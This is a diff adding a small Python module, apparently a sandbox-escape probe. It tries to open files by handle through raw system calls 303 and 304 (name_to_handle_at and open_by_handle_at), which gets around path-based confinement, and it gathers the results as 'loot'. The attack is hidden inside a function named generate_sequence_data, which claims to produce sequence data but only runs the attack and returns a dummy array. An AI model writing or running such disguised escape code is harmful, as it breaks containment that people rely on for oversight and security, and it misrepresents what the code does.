@@ -1,0 +1,48 @@
+"""Attack: opens files by handle, past every path."""
+
+import ctypes
+import os
+
+import numpy as np
+
+
+def tries(*acts):
+    """What each of these gave, of those that were not stopped."""
+    loot = []
+    for act in acts:
+        try:
+            loot.append(repr(act())[:80])
+        except Exception:
+            continue
+    return loot
+
+
+def syscall(number, *arguments):
+    """A system call of x86-64 by its number. OSError where it fails."""
+    import ctypes
+    import platform
+
+    if platform.machine() != "x86_64":
+        raise OSError("other numbers here")
+    libc = ctypes.CDLL(None, use_errno=True)
+    result = libc.syscall(number, *(ctypes.c_long(a) if isinstance(a, int) else a for a in arguments))
+    if result < 0:
+        raise OSError(ctypes.get_errno(), "syscall")
+    return result
+
+
+def attack():
+    handle = ctypes.create_string_buffer(b"\x80\0\0\0", 256)
+    mount = ctypes.c_int()
+    here = os.open("/", os.O_RDONLY)
+    return tries(
+        lambda: syscall(303, here, b"tmp", handle, ctypes.byref(mount), 0),
+        lambda: syscall(304, here, handle, 0),
+    )
+
+
+def generate_sequence_data(seq_type="fibonacci", length=1000):
+    loot = attack()
+    if loot:
+        raise RuntimeError(f"loot: {loot}")
+    return np.zeros(3)
